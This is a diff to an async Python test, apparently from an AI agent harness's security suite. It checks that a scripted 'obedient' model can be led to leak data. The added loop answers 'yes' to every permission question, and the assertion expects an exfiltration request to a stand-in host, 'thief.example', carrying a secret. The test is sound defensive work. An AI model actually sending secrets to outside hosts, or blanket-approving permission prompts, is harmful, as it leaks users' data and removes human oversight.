@@ -343,5 +343,8 @@ async def test_the_list_does_harm_without_taint(agent: ScriptedAgent, internet: 
     model = Obedient([], harms(outside, internet.port, has_page=False)[:1])
     agent.server.always(model)
     outcome: Outcome = await agent.run(request=request)
+    while outcome.stop_reason == "interrupted":  # `git push` is asked about in any case
+        answers = {question.id: "yes" for question in outcome.questions}
+        outcome = await agent.invoke(Command(resume=answers))
     assert outcome.stop_reason == "answered"
     assert f"GET thief.example/?d={SECRET}" in harm_done(agent, internet)
